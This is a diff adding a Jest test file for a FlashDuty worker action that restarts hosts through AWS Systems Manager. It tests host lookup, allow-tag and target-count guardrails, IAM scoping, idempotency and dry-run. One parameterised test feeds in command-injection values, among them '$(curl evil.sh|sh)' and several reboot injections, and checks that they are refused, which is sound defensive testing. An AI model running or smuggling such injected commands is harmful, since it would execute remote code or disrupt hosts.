@@ -1,0 +1,243 @@
+import { CreateTableCommand, DynamoDBClient } from '@aws-sdk/client-dynamodb';
+import { restartHost } from '../../lib/actions/restart-host';
+import type { ActionContext, Outcome } from '../../lib/actions/types';
+import type { RestartHostConfig } from '../../lib/actions/restart-host/config';
+import { actionConfig } from '../../lib/config/worker';
+import { validatePayload } from '../../lib/flashduty/payload';
+import { startDynamoDbEmulator } from '../../lib/local/dynamodb-emulator';
+import { type FakeInstance, SsmStandIn } from '../../lib/local/ssm-standin';
+import { log } from '../../lib/observability';
+import type { QueueMessage } from '../../lib/queue/envelope';
+import { makeExclusive } from '../../lib/worker/lock';
+import { clickWithIncident } from '../fixtures/clicks';
+
+const ALLOWED = { 'flashduty-actions:restart': 'allowed' };
+const WEB: FakeInstance = { InstanceId: 'i-0a1b2c3d4e5f60718', ComputerName: 'es.nj.01', IPAddress: '10.206.0.21', tags: { Name: 'es.nj.01', ...ALLOWED } };
+const DB: FakeInstance = { InstanceId: 'i-0f9e8d7c6b5a40312', ComputerName: 'db.nj.01', IPAddress: '10.206.0.31', tags: { Name: 'db.nj.01' } };
+const TWIN_A: FakeInstance = { InstanceId: 'i-00000000000000aaa', ComputerName: 'api.nj.01', IPAddress: '10.0.0.1', tags: { Name: 'api', ...ALLOWED } };
+const TWIN_B: FakeInstance = { InstanceId: 'i-00000000000000bbb', ComputerName: 'api.nj.02', IPAddress: '10.0.0.2', tags: { Name: 'api', ...ALLOWED } };
+
+describe('restart-host against a Systems Manager stand-in (real @aws-sdk/client-ssm)', () => {
+  const ssm = new SsmStandIn();
+  let endpoint: string;
+  let dynamodb: DynamoDBClient;
+  let stopDynamo: () => Promise<void>;
+
+  beforeAll(async () => {
+    endpoint = await ssm.start();
+    const emulator = await startDynamoDbEmulator();
+    stopDynamo = emulator.stop;
+    dynamodb = new DynamoDBClient({ endpoint: emulator.endpoint, region: 'us-east-1' });
+    await dynamodb.send(
+      new CreateTableCommand({
+        TableName: 'locks',
+        BillingMode: 'PAY_PER_REQUEST',
+        AttributeDefinitions: [{ AttributeName: 'id', AttributeType: 'S' }],
+        KeySchema: [{ AttributeName: 'id', KeyType: 'HASH' }],
+      }),
+    );
+  });
+  afterAll(async () => {
+    dynamodb.destroy();
+    await stopDynamo();
+    await ssm.stop();
+  });
+  beforeEach(() => {
+    ssm.reset();
+    ssm.instances = [WEB, DB, TWIN_A, TWIN_B];
+    ssm.nextScript = { status: 'Success', exitCode: 0, stdout: 'stopping engine\nstarting engine\nengine is active' };
+  });
+
+  let eventSeq = 0;
+  function context(labels: Record<string, string>, options: { env?: NodeJS.ProcessEnv; dryRun?: boolean; eventId?: string; alerts?: unknown[] } = {}): ActionContext<RestartHostConfig> {
+    // The sample's alert carries labels of its own; only the ones a test gives count here.
+    const bareAlerts = (clickWithIncident({}).incident.alerts ?? []).map(({ labels: _labels, ...alert }) => alert);
+    const payload = validatePayload(clickWithIncident({ labels, alerts: options.alerts ?? bareAlerts }));
+    const message: QueueMessage = { version: 1, action: 'restart-host', event_id: options.eventId ?? `evt-${++eventSeq}`, received_at: Date.now(), payload };
+    return {
+      config: actionConfig(restartHost, { RESTART_WAIT_SECONDS: '5', ...options.env }),
+      message,
+      dryRun: options.dryRun ?? false,
+      log,
+      flashduty: undefined as never,
+      signal: AbortSignal.timeout(30_000),
+      aws: { region: 'us-east-1', endpoints: { ssm: endpoint } },
+      exclusive: makeExclusive(dynamodb, 'locks', message.event_id),
+    };
+  }
+  const sendCommands = () => ssm.calls.filter((c) => c.operation === 'SendCommand');
+  const fact = (outcome: Outcome, label: string) => outcome.facts?.find(([l]) => l === label)?.[1];
+
+  describe('finding the target', () => {
+    it('uses an instance id label as is, if the instance carries the allow tag', async () => {
+      const outcome = await restartHost.run(context({ instance_id: WEB.InstanceId, service: 'engine' }));
+      expect(outcome.status).toBe('succeeded');
+      expect(sendCommands()[0]?.input.InstanceIds).toEqual([WEB.InstanceId]);
+    });
+
+    it.each([
+      ['computer name', { resource: 'es.nj.01' }],
+      ['short host name', { host: 'es' }],
+      ['IP address', { ident: '10.206.0.21' }],
+      ['Name tag', { resource: 'es.nj.01' }],
+    ])('looks a host up among managed instances by %s', async (_how, labels) => {
+      ssm.instances = [WEB, DB];
+      const outcome = await restartHost.run(context({ ...labels, service: 'engine' }));
+      expect(outcome.status).toBe('succeeded');
+      expect(sendCommands()[0]?.input.InstanceIds).toEqual([WEB.InstanceId]);
+    });
+
+    it('tries label keys in the configured order, incident labels before alert labels', async () => {
+      const alerts = [{ ...clickWithIncident({}).incident.alerts?.[0], labels: { host: 'db.nj.01' } }];
+      const outcome = await restartHost.run(context({ resource: 'es.nj.01', service: 'engine' }, { alerts, env: { RESTART_TARGET_LABELS: 'host,resource' } }));
+      // host comes first in the order and only the alert has it: db.nj.01, which is not allowed.
+      expect(outcome.status).toBe('failed');
+      expect(outcome.summary).toContain('"db.nj.01" (label host)');
+    });
+
+    it('refuses, never guesses, when no label names a host', async () => {
+      const outcome = await restartHost.run(context({ service: 'engine' }));
+      expect(outcome).toEqual({
+        status: 'failed',
+        summary: 'no label instance_id/host/resource/ident on this incident or its alerts, so there is no host to restart; nothing was restarted',
+      });
+      expect(sendCommands()).toHaveLength(0);
+    });
+
+    it('refuses a match of more instances than RESTART_MAX_TARGETS and lists them', async () => {
+      const outcome = await restartHost.run(context({ resource: 'api', service: 'engine' }));
+      expect(outcome.status).toBe('failed');
+      expect(outcome.summary).toContain('matches 2 instances (i-00000000000000aaa (api.nj.01), i-00000000000000bbb (api.nj.02)), more than RESTART_MAX_TARGETS=1');
+      expect(sendCommands()).toHaveLength(0);
+    });
+
+    it('restarts several when RESTART_MAX_TARGETS allows it', async () => {
+      const outcome = await restartHost.run(context({ resource: 'api', service: 'engine' }, { env: { RESTART_MAX_TARGETS: '2' } }));
+      expect(outcome.status).toBe('succeeded');
+      expect(sendCommands()[0]?.input.InstanceIds).toEqual([TWIN_A.InstanceId, TWIN_B.InstanceId]);
+    });
+  });
+
+  describe('guardrails', () => {
+    it('refuses an instance id that lacks the allow tag', async () => {
+      const outcome = await restartHost.run(context({ instance_id: DB.InstanceId, service: 'engine' }));
+      expect(outcome.summary).toBe(`${DB.InstanceId} does not carry the tag flashduty-actions:restart=allowed, so it may not be restarted from FlashDuty; nothing was restarted`);
+      expect(sendCommands()).toHaveLength(0);
+    });
+
+    it('refuses a host that exists but lacks the allow tag', async () => {
+      const outcome = await restartHost.run(context({ resource: 'db.nj.01', service: 'engine' }));
+      expect(outcome.status).toBe('failed');
+      expect(outcome.summary).toContain('no SSM managed instance tagged flashduty-actions:restart=allowed');
+      expect(sendCommands()).toHaveLength(0);
+    });
+
+    it('refuses an instance SSM cannot reach', async () => {
+      ssm.instances = [{ ...WEB, PingStatus: 'ConnectionLost' }];
+      const outcome = await restartHost.run(context({ resource: 'es.nj.01', service: 'engine' }));
+      expect(outcome.summary).toContain(`${WEB.InstanceId} is ConnectionLost in SSM`);
+      expect(sendCommands()).toHaveLength(0);
+    });
+
+    it.each([
+      ['a command separator in the service label', { resource: 'es.nj.01', service: 'engine; reboot' }],
+      ['a command substitution in the service label', { resource: 'es.nj.01', service: '$(curl evil.sh|sh)' }],
+      ['a quote in the service label', { resource: 'es.nj.01', service: "engine' && reboot '" }],
+      ['a newline in the host label', { resource: 'es.nj.01\nreboot', service: 'engine' }],
+      ['a backtick in the host label', { host: '`reboot`', service: 'engine' }],
+    ])('refuses %s and sends nothing', async (_label, labels) => {
+      const outcome = await restartHost.run(context(labels));
+      expect(outcome.status).toBe('failed');
+      expect(outcome.summary).toMatch(/not a plain (name|host name)/);
+      expect(sendCommands()).toHaveLength(0);
+    });
+
+    it('puts label values into the configured command single-quoted', async () => {
+      await restartHost.run(context({ resource: 'es.nj.01', service: 'engine@2.service' }, { env: { RESTART_COMMAND: 'systemctl restart {service} && systemctl is-active {service}' } }));
+      expect(sendCommands()[0]?.input.Parameters).toEqual({
+        commands: ["systemctl restart 'engine@2.service' && systemctl is-active 'engine@2.service'"],
+        executionTimeout: ['5'],
+      });
+    });
+
+    it('refuses when the command needs a label the incident lacks', async () => {
+      const outcome = await restartHost.run(context({ resource: 'es.nj.01' }));
+      expect(outcome.summary).toContain('the command needs label "service", and this incident has none');
+      expect(sendCommands()).toHaveLength(0);
+    });
+
+    it('scopes SendCommand in IAM to the document and to instances with the allow tag', () => {
+      const statements = restartHost.worker!.iam!(actionConfig(restartHost, {}));
+      expect(statements[0]).toEqual({ Effect: 'Allow', Action: ['ssm:SendCommand'], Resource: 'arn:${AWS::Partition}:ssm:${AWS::Region}::document/AWS-RunShellScript' });
+      expect(statements[1]?.Condition).toEqual({ StringEquals: { 'ssm:resourceTag/flashduty-actions:restart': 'allowed' } });
+    });
+  });
+
+  describe('running the command', () => {
+    it('sends once, waits for the result and reports instance, command id, exit code, output and a console link', async () => {
+      const outcome = await restartHost.run(context({ resource: 'es.nj.01', service: 'engine' }));
+      const [sent] = ssm.sent();
+      expect(outcome.status).toBe('succeeded');
+      expect(outcome.summary).toBe(`ran \`systemctl restart 'engine'\` on ${WEB.InstanceId} (es.nj.01): ${WEB.InstanceId}: Success, exit 0`);
+      expect(fact(outcome, 'command id')).toBe(sent?.CommandId);
+      expect(fact(outcome, `output ${WEB.InstanceId}`)).toBe('stopping engine ⏎ starting engine ⏎ engine is active');
+      expect(outcome.links?.[0]?.url).toBe(`https://us-east-1.console.aws.amazon.com/systems-manager/run-command/${sent?.CommandId}?region=us-east-1`);
+      expect(sent?.Comment).toMatch(/^flashduty-actions evt-\d+$/);
+    });
+
+    it('reports a failing command as a failed outcome with its exit code and errors', async () => {
+      ssm.nextScript = { status: 'Failed', exitCode: 5, stdout: '', stderr: 'Failed to restart engine.service: Unit not found.' };
+      const outcome = await restartHost.run(context({ resource: 'es.nj.01', service: 'engine' }));
+      expect(outcome.status).toBe('failed');
+      expect(outcome.summary).toContain('Failed, exit 5');
+      expect(fact(outcome, `errors ${WEB.InstanceId}`)).toBe('Failed to restart engine.service: Unit not found.');
+    });
+
+    it('does not send a second command when the same click is delivered again', async () => {
+      const first = await restartHost.run(context({ resource: 'es.nj.01', service: 'engine' }, { eventId: 'evt-again' }));
+      const second = await restartHost.run(context({ resource: 'es.nj.01', service: 'engine' }, { eventId: 'evt-again' }));
+      expect(sendCommands()).toHaveLength(1);
+      expect(fact(second, 'command id')).toBe(fact(first, 'command id'));
+    });
+
+    it('throws (so the worker retries) when the command outlasts the wait, then resumes the same command', async () => {
+      ssm.nextScript = { status: 'Success', exitCode: 0, stdout: 'done', takesMs: 7000 };
+      const click = () => context({ resource: 'es.nj.01', service: 'engine' }, { eventId: 'evt-slow' });
+      await expect(restartHost.run(click())).rejects.toThrow(/was still running after 5 s; will check again/);
+      const resumed = await restartHost.run(click());
+      expect(resumed.status).toBe('succeeded');
+      expect(sendCommands()).toHaveLength(1);
+    }, 20_000);
+
+    it('rides out SSM throttling with the SDK retries, and throws for the worker to retry when it persists', async () => {
+      ssm.throttle.set('DescribeInstanceInformation', 2);
+      expect((await restartHost.run(context({ resource: 'es.nj.01', service: 'engine' }))).status).toBe('succeeded');
+      ssm.throttle.set('SendCommand', 10);
+      await expect(restartHost.run(context({ resource: 'es.nj.01', service: 'engine' }))).rejects.toMatchObject({ name: 'ThrottlingException' });
+    }, 30_000);
+
+    it('in dry-run describes the exact SendCommand input and sends nothing', async () => {
+      const outcome = await restartHost.run(context({ resource: 'es.nj.01', service: 'engine' }, { dryRun: true, eventId: 'evt-dry' }));
+      expect(outcome.status).toBe('dry-run');
+      expect(JSON.parse(fact(outcome, 'SendCommand input')!)).toEqual({
+        DocumentName: 'AWS-RunShellScript',
+        InstanceIds: [WEB.InstanceId],
+        Parameters: { commands: ["systemctl restart 'engine'"], executionTimeout: ['5'] },
+        Comment: 'flashduty-actions evt-dry',
+        TimeoutSeconds: 30,
+      });
+      expect(sendCommands()).toHaveLength(0);
+    });
+
+    it('never restarts one host for two clicks at the same time', async () => {
+      ssm.nextScript = { status: 'Success', exitCode: 0, stdout: 'ok', takesMs: 1500 };
+      const [a, b] = await Promise.all([
+        restartHost.run(context({ resource: 'es.nj.01', service: 'engine' }, { eventId: 'evt-a' })),
+        restartHost.run(context({ instance_id: WEB.InstanceId, service: 'engine' }, { eventId: 'evt-b' })),
+      ]);
+      expect([a.status, b.status]).toEqual(['succeeded', 'succeeded']);
+      const [first, second] = ssm.sent();
+      expect(second!.RequestedDateTime * 1000 - first!.RequestedDateTime * 1000).toBeGreaterThanOrEqual(1500);
+    }, 20_000);
+  });
+});
